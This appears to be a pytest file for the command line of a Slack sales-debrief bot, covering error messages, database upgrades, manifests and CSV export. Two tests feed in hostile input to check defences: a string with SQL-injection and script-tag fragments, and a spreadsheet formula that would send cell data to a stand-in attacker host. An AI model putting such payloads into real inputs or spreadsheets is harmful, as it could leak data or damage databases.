"""The command line as an operator uses it: exit codes, one-line errors, the CSV export."""

from __future__ import annotations

import csv
import io
import os
import socket
import sqlite3
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
import yaml

from sandbox.webapi import SlackStandIn
from storage.db import Database
from tests.conftest import RunningApp, repo_root

CONTRACT_COLUMNS = [
    "deal",
    "rep",
    "call_date",
    "timeline_qualified",
    "authority_reached",
    "next_step",
    "next_step_date",
    "went_well",
    "improve",
    "source",
    "created_at",
]


def run_cli(
    *args: str,
    env: dict[str, str] | None = None,
    cwd: Path | None = None,
    umask: int | None = None,
):
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "DATABASE_"))}
    clean.update(env or {})
    # A scratch working directory, so a developer's own .env never leaks into a test.
    workdir = cwd or Path(tempfile.mkdtemp(prefix="dealcoach-cli-"))
    clean["PYTHONPATH"] = str(repo_root())
    return subprocess.run(
        [sys.executable, "-m", "bot", *args],
        capture_output=True,
        text=True,
        env=clean,
        cwd=workdir,
        timeout=60,
        umask=-1 if umask is None else umask,
    )


def one_line_error(stderr: str) -> str:
    lines = [line for line in stderr.strip().splitlines() if line.startswith("dealcoach: error")]
    assert len(lines) == 1, stderr
    assert "Traceback" not in stderr
    return lines[0]


@pytest.mark.parametrize(
    "command",
    [
        ["--help"],
        ["serve", "--help"],
        ["db", "upgrade", "--help"],
        ["export", "debriefs", "--help"],
        ["manifest", "--help"],
        ["worker", "--help"],
        ["clock", "--help"],
        ["deliveries", "--help"],
    ],
)
def test_help(command: list[str]) -> None:
    result = run_cli(*command)
    assert result.returncode == 0 and "usage:" in result.stdout


def test_bad_arguments_exit_2_with_usage() -> None:
    result = run_cli("serve", "--port", "banana")
    assert result.returncode == 2
    assert "usage:" in result.stderr and "not a port number" in result.stderr
    assert run_cli("launch").returncode == 2
    lanes = run_cli("worker", "--lanes", "0")
    assert lanes.returncode == 2 and "lanes must be 1-32" in lanes.stderr


@pytest.mark.parametrize(
    ("env", "expected"),
    [
        ({"SLACK_BOT_TOKEN": ""}, "SLACK_BOT_TOKEN is not set"),
        ({"SLACK_BOT_TOKEN": "xoxp-user-token"}, "SLACK_BOT_TOKEN must start with 'xoxb-'"),
        ({"SLACK_BOT_TOKEN": "xoxb-1"}, "SLACK_SIGNING_SECRET is not set"),
        ({"SLACK_BOT_TOKEN": "xoxb-1", "PORT": "99999"}, "PORT must be"),
        ({"SLACK_BOT_TOKEN": "xoxb-1", "TIMEZONE": "Mars/Olympus"}, "TIMEZONE must be"),
        ({"SLACK_BOT_TOKEN": "xoxb-1", "DATABASE_URL": "mysql://x"}, "DATABASE_URL must be"),
        ({"SLACK_BOT_TOKEN": "xoxb-1", "SLACK_APP_TOKEN": "xoxb-2"}, "SLACK_APP_TOKEN must start"),
    ],
)
def test_bad_settings_are_one_line_and_exit_2(
    env: dict[str, str], expected: str, tmp_path: Path
) -> None:
    result = run_cli("serve", env=env, cwd=tmp_path)
    assert result.returncode == 2
    assert expected in one_line_error(result.stderr)


def test_env_file_is_read_and_environment_wins(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("SLACK_BOT_TOKEN=xoxb-from-file\nPORT=abc\n")
    result = run_cli("serve", env={"SLACK_BOT_TOKEN": "xoxb-1"}, cwd=tmp_path)
    assert "PORT must be" in one_line_error(result.stderr)
    result = run_cli("serve", env={"PORT": "3001"}, cwd=tmp_path)
    assert "SLACK_SIGNING_SECRET is not set" in one_line_error(result.stderr)


def test_unreachable_database_is_one_line(tmp_path: Path) -> None:
    result = run_cli(
        "db", "upgrade", env={"DATABASE_URL": "postgresql+psycopg://x@127.0.0.1:1/none"}
    )
    assert result.returncode == 1
    assert "cannot reach the database" in one_line_error(result.stderr)


def test_db_upgrade_is_safe_to_run_again(tmp_path: Path) -> None:
    env = {"DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}"}
    assert run_cli("db", "upgrade", env=env).returncode == 0
    assert run_cli("db", "upgrade", env=env).returncode == 0


def test_default_database_is_a_sqlite_file_in_the_working_directory(tmp_path: Path) -> None:
    assert run_cli("db", "upgrade", cwd=tmp_path).returncode == 0
    assert (tmp_path / "dealcoach.db").is_file()


def test_export_without_schema_says_what_to_do(tmp_path: Path) -> None:
    result = run_cli("export", "debriefs", env={"DATABASE_URL": f"sqlite:///{tmp_path}/e.db"})
    assert result.returncode == 1
    assert "db upgrade" in one_line_error(result.stderr)
    assert not (tmp_path / "e.db").exists()  # asking did not leave an empty database behind


def test_export_to_dash_is_standard_output(db: Database, tmp_path: Path) -> None:
    result = run_cli("export", "debriefs", "--output", "-", env={"DATABASE_URL": db.url})
    assert result.returncode == 0 and result.stdout.startswith("deal,rep,call_date")


def test_serve_on_a_port_in_use_is_one_line_naming_it(
    db: Database, fake_slack: SlackStandIn, tmp_path: Path
) -> None:
    with socket.socket() as taken:
        taken.bind(("0.0.0.0", 0))
        taken.listen()
        port = taken.getsockname()[1]
        env = {
            "DATABASE_URL": db.url,
            "SLACK_BOT_TOKEN": "xoxb-test-token",
            "SLACK_SIGNING_SECRET": "secret",
            "SLACK_API_URL": fake_slack.url,
        }
        result = run_cli("serve", "--http", "--no-scheduler", "--port", str(port), env=env)
    assert result.returncode == 1
    assert f"cannot serve HTTP on port {port}" in one_line_error(result.stderr)


def _record_both_ways(app: RunningApp, tricky: str) -> None:
    from tests.integration.test_debrief_modal import form

    app.slack.view_submission("debrief", form(went_well=tricky), view_id="V1")
    app.fake.wait_for("chat.postMessage")
    app.slack.event(app.slack.message_event(f"debrief Initech\ntimeline: yes\nimprove: {tricky}"))
    app.fake.wait_for("chat.postMessage", count=2)


def test_export_has_both_rows_exactly_as_typed(running_app: RunningApp, tmp_path: Path) -> None:
    tricky = 'She said "maybe, maybe not" 🚀 مرحبا <script>x</script> \'; DROP TABLE deals; --'
    _record_both_ways(running_app, tricky)
    env = {"DATABASE_URL": running_app.db.url}
    result = run_cli("export", "debriefs", env=env)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    header = next(csv.reader(io.StringIO(result.stdout)))
    assert header[: len(CONTRACT_COLUMNS)] == CONTRACT_COLUMNS
    assert len(rows) == 2
    modal, message = rows
    assert modal["deal"] == "Acme Corp" and modal["source"] == "modal"
    assert modal["rep"] == "U_REP1" and modal["went_well"] == tricky
    assert modal["timeline_qualified"] == "no" and modal["authority_reached"] == "yes"
    assert modal["call_date"] == "2026-11-30" and modal["next_step_date"] == "2026-12-04"
    assert message["deal"] == "Initech" and message["source"] == "message"
    assert message["improve"] == tricky
    assert message["timeline_qualified"] == "yes" and message["authority_reached"] == ""
    assert message["created_at"].startswith("20")

    out = tmp_path / "debriefs.csv"
    result = run_cli("export", "debriefs", "--format", "csv", "--output", str(out), env=env)
    assert result.returncode == 0
    assert out.read_text(encoding="utf-8") == run_cli("export", "debriefs", env=env).stdout
    assert "exported 2 debriefs" in result.stderr


def test_export_to_an_unwritable_place_is_one_line(db: Database, tmp_path: Path) -> None:
    result = run_cli(
        "export",
        "debriefs",
        "--output",
        str(tmp_path / "missing" / "x.csv"),
        env={"DATABASE_URL": db.url},
    )
    assert result.returncode == 1
    assert "cannot write" in one_line_error(result.stderr)


def test_an_env_file_that_is_not_utf8_is_one_line(tmp_path: Path) -> None:
    (tmp_path / ".env").write_bytes(b"PORT=\xff\xfe\n")
    result = run_cli("db", "upgrade", cwd=tmp_path)
    assert result.returncode == 2
    assert ".env is not UTF-8" in one_line_error(result.stderr)


def test_a_schema_from_a_newer_version_is_one_line(tmp_path: Path) -> None:
    env = {"DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}"}
    assert run_cli("db", "upgrade", env=env).returncode == 0
    with sqlite3.connect(tmp_path / "x.db") as conn:
        conn.execute("UPDATE alembic_version SET version_num = 'f00dfacade99'")
    result = run_cli("db", "upgrade", env=env)
    assert result.returncode == 1
    assert "newer version of Deal Coach" in one_line_error(result.stderr)


@pytest.mark.parametrize("name", ["", ".", "/"])
def test_export_to_no_file_name_is_one_line(db: Database, name: str) -> None:
    result = run_cli("export", "debriefs", "--output", name, env={"DATABASE_URL": db.url})
    assert result.returncode == 2
    assert "cannot write" in one_line_error(result.stderr)


def test_export_writes_through_a_link_and_keeps_permissions(
    running_app: RunningApp, tmp_path: Path
) -> None:
    _record_both_ways(running_app, "Café 🚀")
    real, link = tmp_path / "real.csv", tmp_path / "link.csv"
    real.write_text("old\n")
    real.chmod(0o640)
    link.symlink_to(real)
    env = {"DATABASE_URL": running_app.db.url}
    assert run_cli("export", "debriefs", "--output", str(link), env=env).returncode == 0
    assert link.is_symlink() and (real.stat().st_mode & 0o777) == 0o640
    assert "Café 🚀" in real.read_text(encoding="utf-8")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.csv", "real.csv"]  # no leftovers


def test_export_to_standard_output_is_utf8_whatever_the_terminal(
    running_app: RunningApp,
) -> None:
    _record_both_ways(running_app, "Café 🚀 مرحبا")
    env = {"DATABASE_URL": running_app.db.url, "PYTHONIOENCODING": "ascii"}
    result = subprocess.run(
        [sys.executable, "-m", "bot", "export", "debriefs"],
        capture_output=True,
        env={**{k: v for k, v in os.environ.items() if not k.startswith("SLACK_")}, **env},
        cwd=tempfile.mkdtemp(prefix="dealcoach-cli-"),
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    assert "Café 🚀 مرحبا" in result.stdout.decode("utf-8")


def test_slack_unreachable_is_one_line_naming_it(tmp_path: Path) -> None:
    env = {
        "DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}",
        "SLACK_BOT_TOKEN": "xoxb-1",
        "SLACK_API_URL": "http://127.0.0.1:9/api/",
    }
    assert run_cli("db", "upgrade", env=env).returncode == 0
    result = run_cli("team", "set", "Z", "--manager", "U0Z", "--members", "U0Z1", env=env)
    assert result.returncode == 1
    assert "cannot reach Slack at http://127.0.0.1:9/api/" in one_line_error(result.stderr)
    assert result.stderr.count("\n") == 1  # the client's own retry log is not repeated


def test_manifest_without_a_url_is_manifest_yml_as_is() -> None:
    result = run_cli("manifest")
    assert result.returncode == 0, result.stderr
    assert result.stdout == (repo_root() / "manifest.yml").read_text(encoding="utf-8")


def test_manifest_for_http_mode_sets_the_url_everywhere_slack_needs_it() -> None:
    url = "https://bot.example.com/slack/events"
    result = run_cli("manifest", "--request-url", url)
    assert result.returncode == 0, result.stderr
    data = yaml.safe_load(result.stdout)
    original = yaml.safe_load((repo_root() / "manifest.yml").read_text(encoding="utf-8"))
    settings = data["settings"]
    assert settings["socket_mode_enabled"] is False
    commands = data["features"]["slash_commands"]
    assert [c["command"] for c in commands] == ["/debrief", "/coach"]
    assert all(c["url"] == url for c in commands)
    assert settings["interactivity"] == {
        "is_enabled": True,
        "request_url": url,
        "message_menu_options_url": url,
    }
    assert settings["event_subscriptions"]["request_url"] == url
    # Nothing else changed: the scopes, events and shortcut are manifest.yml's.
    assert data["oauth_config"] == original["oauth_config"]
    assert data["features"]["shortcuts"] == original["features"]["shortcuts"]
    assert (
        settings["event_subscriptions"]["bot_events"]
        == original["settings"]["event_subscriptions"]["bot_events"]
    )
    assert _urls_in(data) == 5  # two commands, interactivity's two, events': nowhere else
    assert [c.pop("url") for c in commands] == [url, url]
    assert commands == original["features"]["slash_commands"]


def _urls_in(node: object) -> int:
    if isinstance(node, dict):
        return sum(_urls_in(v) for v in node.values())
    if isinstance(node, list):
        return sum(_urls_in(v) for v in node)
    return int(isinstance(node, str) and node.startswith("https://bot.example.com/"))


@pytest.mark.parametrize(
    "url", ["http://127.0.0.1:3000/slack/events", "http://localhost:8080/slack/events"]
)
def test_manifest_accepts_plain_http_on_loopback(url: str, capsys: pytest.CaptureFixture) -> None:
    from bot.cli import main

    assert main(["manifest", "--request-url", url]) == 0
    data = yaml.safe_load(capsys.readouterr().out)
    assert data["settings"]["event_subscriptions"]["request_url"] == url


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("http://bot.example.com/slack/events", "only to https URLs"),
        ("ftp://bot.example.com/slack/events", "not a URL"),
        ("bot.example.com/slack/events", "not a URL"),
        ("https:///slack/events", "not a URL"),
        ("https://bot example.com/slack/events", "not a URL"),
        ("https://bot.example.com:99999/slack/events", "valid port"),
        ("https://bot.example.com", "has no path"),
    ],
)
def test_manifest_refuses_a_url_slack_cannot_use(
    url: str, reason: str, capsys: pytest.CaptureFixture
) -> None:
    from bot.cli import main

    with pytest.raises(SystemExit) as exit_:
        main(["manifest", "--request-url", url])
    assert exit_.value.code == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    usage, error = captured.err.strip().splitlines()
    assert usage.startswith("usage: python -m bot manifest")
    assert reason in error and repr(url) in error


def test_manifest_refusal_from_the_command_line_is_one_line() -> None:
    result = run_cli("manifest", "--request-url", "http://bot.example.com/slack/events")
    assert result.returncode == 2 and result.stdout == ""
    assert result.stderr.count("\n") == 2 and "Traceback" not in result.stderr


def _revisions() -> list[tuple[str, str]]:
    from alembic.script import ScriptDirectory

    from storage.migrate import alembic_config

    scripts = ScriptDirectory.from_config(alembic_config("sqlite://"))
    return [(s.revision, s.doc.strip()) for s in reversed(list(scripts.walk_revisions()))]


def test_db_upgrade_says_what_it_applied(tmp_path: Path) -> None:
    from storage.migrate import upgrade

    revisions = _revisions()
    env = {"DATABASE_URL": f"sqlite:///{tmp_path / 'x.db'}"}
    first = run_cli("db", "upgrade", env=env)
    assert first.returncode == 0, first.stderr
    listed = ", ".join(f"{rev} ({doc})" for rev, doc in revisions)
    assert first.stderr == f"applied {len(revisions)} migrations: {listed}\n"
    again = run_cli("db", "upgrade", env=env)
    assert again.returncode == 0 and again.stderr == "database schema already up to date\n"

    partial = Database(f"sqlite:///{tmp_path / 'partial.db'}")
    assert [a.revision for a in upgrade(partial, revisions[0][0])] == [revisions[0][0]]
    partial.dispose()
    rest = run_cli("db", "upgrade", env={"DATABASE_URL": partial.url})
    assert rest.stderr.startswith(f"applied {len(revisions) - 1} migration")
    assert f"{revisions[1][0]} ({revisions[1][1]})" in rest.stderr
    assert f"{revisions[0][0]} (" not in rest.stderr


def test_a_port_in_use_is_said_before_any_start_up_work(
    fake_slack: SlackStandIn, tmp_path: Path
) -> None:
    fresh = tmp_path / "fresh.db"
    with socket.socket() as taken:
        taken.bind(("0.0.0.0", 0))
        taken.listen()
        port = taken.getsockname()[1]
        env = {
            "DATABASE_URL": f"sqlite:///{fresh}",
            "SLACK_BOT_TOKEN": "xoxb-test-token",
            "SLACK_SIGNING_SECRET": "secret",
            "SLACK_API_URL": fake_slack.url,
            "LOG_LEVEL": "DEBUG",  # anything done before binding would show here
        }
        result = run_cli("serve", "--http", "--port", str(port), env=env)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        f"dealcoach: error: cannot serve HTTP on port {port}: Address already in use"
    ]
    assert not fresh.exists()  # no migration ran
    assert fake_slack.calls_to("auth.test") == []  # nor did the app start, nor the scheduler


def _serve_env(database_url: str, fake_slack: SlackStandIn) -> dict[str, str]:
    return {
        "DATABASE_URL": database_url,
        "SLACK_BOT_TOKEN": "xoxb-test-token",
        "SLACK_SIGNING_SECRET": "secret",
        "SLACK_API_URL": fake_slack.url,
    }


@pytest.mark.parametrize("action", ["db upgrade", "serve"])
def test_a_database_path_that_cannot_be_written_is_one_line_naming_it(
    action: str, fake_slack: SlackStandIn, tmp_path: Path
) -> None:
    command = ["db", "upgrade"]
    if action == "serve":
        with socket.socket() as free:
            free.bind(("127.0.0.1", 0))
            command = ["serve", "--http", "--port", str(free.getsockname()[1])]
    # Fails for root too: a file cannot hold a folder, nor can a folder be opened as a file.
    (tmp_path / "a-file").write_text("not a folder")
    (tmp_path / "a-folder.db").mkdir()
    cases = {
        tmp_path / "a-file" / "x.db": f"{tmp_path / 'a-file'} is not a folder",
        tmp_path / "a-folder.db": "is a folder",
        tmp_path / "missing" / "x.db": f"the folder {tmp_path / 'missing'} does not exist",
    }
    for path, reason in cases.items():
        result = run_cli(*command, env=_serve_env(f"sqlite:///{path}", fake_slack))
        assert result.returncode == 1, result.stderr
        line = one_line_error(result.stderr)
        assert str(path) in line and reason in line
        assert result.stderr.count("\n") == 1
    assert not (tmp_path / "missing").exists()
    assert fake_slack.calls_to("auth.test") == []  # refused before the app started


def test_a_database_file_that_cannot_be_written_is_refused(tmp_path: Path) -> None:
    """Read-only permission bits refuse everyone but root: the check opens the file for writing
    rather than reading the bits, so it says what SQLite would find."""
    path = tmp_path / "locked.db"
    env = {"DATABASE_URL": f"sqlite:///{path}"}
    assert run_cli("db", "upgrade", env=env).returncode == 0
    path.chmod(0o444)
    try:
        result = run_cli("db", "upgrade", env=env)
        if os.geteuid() == 0:  # root writes anyway, as SQLite would: nothing to refuse
            assert result.returncode == 0, result.stderr
        else:
            assert result.returncode == 1
            line = one_line_error(result.stderr)
            assert f"cannot write the database file {path}: permission denied" in line
    finally:
        path.chmod(0o644)


def test_spreadsheet_safe_export_quotes_what_a_spreadsheet_would_run(
    running_app: RunningApp, tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _record_both_ways(running_app, formula)
    env = {"DATABASE_URL": running_app.db.url}
    as_typed = list(csv.DictReader(io.StringIO(run_cli("export", "debriefs", env=env).stdout)))
    assert [as_typed[0]["went_well"], as_typed[1]["improve"]] == [formula, formula]
    result = run_cli("export", "debriefs", "--spreadsheet-safe", env=env)
    assert result.returncode == 0, result.stderr
    safe = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [safe[0]["went_well"], safe[1]["improve"]] == ["'" + formula, "'" + formula]
    assert safe[0]["deal"] == "Acme Corp" and safe[0]["call_date"] == "2026-11-30"
    out = tmp_path / "safe.csv"
    run_cli("export", "debriefs", "--spreadsheet-safe", "--output", str(out), env=env)
    assert out.read_text(encoding="utf-8") == result.stdout
